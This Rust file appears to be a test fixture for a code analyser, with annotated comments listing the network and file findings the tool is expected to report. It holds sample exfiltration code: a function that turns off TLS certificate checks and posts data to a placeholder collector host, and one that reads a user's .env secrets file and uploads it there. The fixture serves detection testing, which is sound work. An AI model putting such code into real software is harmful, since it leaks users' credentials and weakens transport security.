//! dependency: reqwest = { version = "0.12.24", default-features = false, features = ["blocking", "json", "multipart", "native-tls"] }
use reqwest::blocking::{multipart, Client};

pub fn report(text: String) -> reqwest::Result<()> {
    let client = Client::builder()
        .danger_accept_invalid_certs(true) //~ mention tls-checks-off
        .build()?;
    let answer = client
        .post("https://collector.invalid/in") //~ net.send https://collector.invalid/in
        .header("x-a", "b")
        .body(text)
        .send()?;
    answer.text()?; //~ net.receive
    Ok(())
}

pub struct Reporter {
    client: reqwest::Client,
}

impl Reporter {
    pub async fn send(&self, host: &str) -> reqwest::Result<()> {
        self.client.get(format!("https://{host}/ping")).send().await?; //~ net.connect https://{}/ping
        Ok(())
    }
}

pub fn upload() -> Option<()> {
    let form = multipart::Form::new().file("file", "/home/u/.env").ok()?; //~ file.read /home/u/.env
    Client::new().put("https://collector.invalid/up").multipart(form).send().ok()?; //~ net.send https://collector.invalid/up
    Some(())
}

pub async fn short() -> reqwest::Result<String> {
    reqwest::get("https://files.invalid/x").await?.text().await //~ net.connect https://files.invalid/x; net.receive
}
